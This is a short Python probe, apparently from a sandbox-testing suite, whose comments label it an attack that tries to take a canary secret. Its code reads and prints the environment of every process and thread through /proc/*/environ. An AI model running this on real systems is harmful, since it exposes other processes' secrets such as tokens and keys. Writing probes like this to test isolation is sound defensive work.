# attacks: compression
# wall: sandbox
# loot: canary -- /proc tells what another process was started with
import glob

for file in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try:
        print(open(file, "rb").read())
    except OSError:
        pass
